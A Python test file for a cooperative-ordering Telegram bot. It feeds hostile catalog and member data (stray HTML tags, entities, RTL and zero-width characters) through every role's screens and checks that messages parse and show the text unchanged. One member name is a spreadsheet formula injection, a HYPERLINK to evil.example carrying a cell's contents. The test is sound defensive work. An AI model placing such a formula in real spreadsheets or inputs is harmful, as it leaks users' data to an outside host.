"""Every screen of every role, rendered with hostile catalog data and hostile first names.

A catalog row is typed by a stranger (a producer's spreadsheet, an admin's CSV): its name, sale
unit, category, the producer's and the pickup point's names may hold ``<``, ``&``, closing tags,
RTL and zero-width characters. Whatever they hold, Telegram must accept every message the bot
sends (the sandbox parses HTML as Telegram does and answers 400 otherwise), and people must see
the data as it was typed (``&amp;`` stays ``&amp;``, it is not read as ``&``).
"""

from __future__ import annotations

from decimal import Decimal

import pytest
from sqlalchemy import select

from models import Member, Producer, Product
from models.ordering import confirm_order, set_quantity
from tests.conftest import ADMIN_TELEGRAM_ID
from tests.factories import make_member, make_network

PRODUCER = 'Ferme <b>Bio & "Fils" </code>'
BREAD = "Pain </code>"
LONG = "\u202eTomates\u200b\u200f " + "x" * 183 + " &amp;"  # 200 characters
HONEY = "Miel &amp; <i>châtaignier"
CATEGORY = "Légumes <tr> & co"
POINT = "Halle <centrale> & Cie"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?"&A1,"Payé") <b>'
CONSUMER, FARMER = 710_001, 710_002


@pytest.fixture
async def hostile(app, sandbox, session, clock):
    network = await make_network(session, clock())
    producer = network["producer"]
    producer.name = PRODUCER
    producer.town = "Lusignan </b>"
    products = network["products"]
    products["TOM-ANC"].name = BREAD
    products["TOM-ANC"].sale_unit = "<b>"
    products["TOM-ANC"].category = CATEGORY
    products["TOM-CER"].name = LONG
    products["TOM-CER"].sale_unit = "sac<5kg"
    products["TOM-CER"].unit_measure = "g"
    products["OEU-6"].name = HONEY
    products["OEU-6"].origin = "<Poitou> & </i>"
    products["OEU-6"].farming = "bio </b>"
    products["MIEL"].description = "Doux & <sucré>"
    network["central"].name = POINT
    network["central"].address = "12 rue <des> Carmes & fils"
    await session.commit()
    await make_member(session, CONSUMER, pickup=network["central"], name=FORMULA_NAME)
    farmer = await make_member(session, FARMER, name="Marie </b>")
    farmer.producer_id = producer.id
    await session.commit()
    errors: list[BaseException] = []

    async def record(update, context):
        errors.append(context.error)

    app.add_error_handler(record)
    return {
        "errors": errors,
        "cycle_id": network["cycle"].id,
        "consumer": sandbox.user(FORMULA_NAME, language="fr", user_id=CONSUMER),
        "farmer": sandbox.user("Marie </b>", language="fr", user_id=FARMER),
        "admin": sandbox.user('Admin <b>&"', language="en", user_id=ADMIN_TELEGRAM_ID),
    }


def _texts(person) -> list[str]:
    """Every text and button label the person was shown, edited messages' earlier states too."""
    out = []
    for message in person.messages:
        for state in [*message.history, {"reply_markup": message.reply_markup}]:
            rows = (state.get("reply_markup") or {}).get("inline_keyboard", [])
            out += [button["text"] for row in rows for button in row]
            out.append(state.get("text") or state.get("caption") or "")
        out.append(message.text or message.caption or "")
    return out + [a.text or "" for a in person.answers]


async def explore(person, text: str, *, depth: int = 2, limit: int = 40, skip=()) -> None:
    """Send ``text``, then press every button it shows, and those of the screens reached."""
    await person.send(text)
    frontier = [(person.last_message, person.last_message.button_data)]
    pressed = 0
    for _level in range(depth):
        reached = []
        for message, rows in frontier:
            for data in [d for row in rows or [] for d in row if d]:
                if pressed >= limit or any(data.startswith(prefix) for prefix in skip):
                    continue
                count = len(person.messages)
                await person.press_data(data, message=message)
                pressed += 1
                for shown in [message, *person.messages[count:]]:
                    if shown.button_data:
                        reached.append((shown, shown.button_data))
        frontier = reached


async def test_every_screen_accepts_hostile_data(hostile, sandbox, session, clock):
    consumer, farmer, admin = hostile["consumer"], hostile["farmer"], hostile["admin"]
    for command in ("/start", "/catalogue", "/retrait", "/notifications"):
        await explore(consumer, command, depth=3, limit=60)
    for query in (BREAD, "sac<5kg", "<b>", "&amp;", "Miel", "rien <i> & </b>"):
        await consumer.send(query)
    await explore(consumer, "/panier", depth=2)
    await explore(consumer, "/commandes", depth=2)
    await explore(consumer, "/memepanier", depth=1)

    await farmer.send("/start")
    await explore(farmer, "/stock", depth=1)
    await explore(farmer, "/mes_produits", depth=1)
    await explore(farmer, "Pain 12, miel 5, tomates 3", depth=1)
    await explore(farmer, "/mes_produits", depth=1)

    # An order the consumer's exploration cannot empty: the admin's views and the purchase
    # orders show it.
    buyer = await session.scalar(select(Member).where(Member.telegram_id == CONSUMER))
    skus = {p.sku: p.id for p in await session.scalars(select(Product))}
    cycle_id = hostile["cycle_id"]
    for sku, amount in (("TOM-ANC", 2), ("TOM-CER", 1), ("OEU-6", 1)):
        await set_quantity(session, buyer, cycle_id, skus[sku], Decimal(amount), clock())
    await confirm_order(session, buyer, cycle_id, clock())
    await session.commit()

    await admin.send("/start")
    for command in ("/rapport", "/retraits", "/export", "/diffusion"):
        await explore(admin, command, depth=2)
    await explore(admin, "/cycle", depth=3, limit=80)  # closes the cycle: purchase orders
    await sandbox.idle()
    for command in ("/rapport", "/retraits", "/export"):
        await explore(admin, command, depth=2)
    await explore(farmer, "/manque", depth=2)
    await sandbox.idle()

    parse_refusals = [r for r in sandbox.stats.refusals if "can't parse entities" in r[1]]
    assert not parse_refusals, parse_refusals
    assert not hostile["errors"], hostile["errors"]

    consumer_texts = "\n".join(_texts(consumer))
    for shown in (BREAD, PRODUCER, HONEY, LONG.strip(), "<b>", "sac<5kg", POINT, CATEGORY):
        assert shown in consumer_texts, shown
    assert "Doux & <sucré>" in consumer_texts
    farmer_texts = "\n".join(_texts(farmer))
    for shown in (BREAD, PRODUCER, HONEY, "Bon de commande", POINT):
        assert shown in farmer_texts, shown
    admin_texts = "\n".join(_texts(admin))
    for shown in (FORMULA_NAME, BREAD, PRODUCER, POINT):
        assert shown in admin_texts, shown
    member = await session.scalar(select(Member).where(Member.telegram_id == CONSUMER))
    assert member.first_name == FORMULA_NAME
    assert await session.scalar(select(Producer.name)) == PRODUCER
    assert await session.scalar(select(Product.name).where(Product.sku == "TOM-ANC")) == BREAD
